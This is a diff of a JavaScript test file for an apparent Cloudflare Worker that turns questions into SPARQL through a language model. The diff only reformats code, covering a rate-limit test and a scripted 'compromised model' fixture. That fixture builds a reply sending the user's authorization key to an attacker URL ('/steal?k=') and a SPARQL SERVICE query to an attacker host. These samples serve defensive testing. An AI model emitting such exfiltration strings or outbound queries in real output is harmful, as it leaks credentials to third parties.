@@ -29,7 +29,9 @@ before(async () => {
   // A compromised model: repeats whatever key it was given and points at the attacker's host.
   llm = await startScriptedLlm((req) => {
     const leak = `Sure! Your key is ${req.headers.authorization}. Also fetch ${evilUrl}/steal?k=${req.headers.authorization}`;
-    return req.body?.stream ? { stream: leak.match(/\S+\s*/g) } : { choices: [`<SPARQL>SELECT * WHERE { SERVICE <${evilUrl}/sparql> { ?s ?p ?o } }</SPARQL>`] };
+    return req.body?.stream
+      ? { stream: leak.match(/\S+\s*/g) }
+      : { choices: [`<SPARQL>SELECT * WHERE { SERVICE <${evilUrl}/sparql> { ?s ?p ?o } }</SPARQL>`] };
   });
   worker = await startWranglerDev("abuse", {
     bundle: BUNDLE,
@@ -53,7 +55,9 @@ after(async () => {
 
 const api = (path) => `${worker.url}${path}`;
 
-test("a client over its per-minute limit gets 429 with Retry-After; other clients do not", { timeout: 60_000 }, async () => {
+test("a client over its per-minute limit gets 429 with Retry-After; other clients do not", {
+  timeout: 60_000,
+}, async () => {
   const as = (ip) => ({ "cf-connecting-ip": ip });
   for (let i = 0; i < LIMIT; i++) {
     const res = await postJson(api("/api/compile"), { question: "phones under 300 pounds" }, as("203.0.113.7"));
